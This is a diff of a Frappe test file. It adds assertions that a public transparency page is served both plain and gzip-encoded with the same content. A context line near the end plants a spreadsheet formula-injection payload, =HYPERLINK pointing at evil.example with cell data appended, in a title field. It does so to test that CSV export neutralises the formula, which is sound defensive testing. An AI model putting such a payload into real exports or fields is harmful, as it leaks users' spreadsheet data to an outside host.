@@ -193,10 +193,20 @@ class TestPublicOutputsCannotBeTampered(FrappeTestCase):
 		self.assertIsInstance(other, TemplatePage)
 		T.clear_public_cache()
 		frappe.db.commit()
+		pages = []
 		for _ in range(2):  # stored, then served from Frappe's page cache: the same page
 			response = f.rest("GET", "/transparency")
 			self.assertEqual(response.status_code, 200)
-			self.assertIn('id="results"', response.get_data(as_text=True))
+			self.assertNotIn("Content-Encoding", response.headers)
+			pages.append(response.get_data(as_text=True))
+			self.assertIn('id="results"', pages[-1])
+		# gzipped for a client that accepts it (HTML as JSON), the same page once decoded
+		import gzip
+
+		zipped = f.rest("GET", "/transparency", headers={"Accept-Encoding": "gzip"})
+		self.assertEqual(zipped.headers.get("Content-Encoding"), "gzip")
+		self.assertEqual(gzip.decompress(zipped.get_data()).decode(), pages[-1])
+		self.assertIn("Accept-Encoding", zipped.headers.get("Vary", ""))
 
 	def test_a_title_that_looks_like_a_formula_is_text_in_the_csv(self):
 		frappe.db.set_value("TA Programme", self.funded, "title_fr", '=HYPERLINK("http://evil.example/?"&A1,"x")')
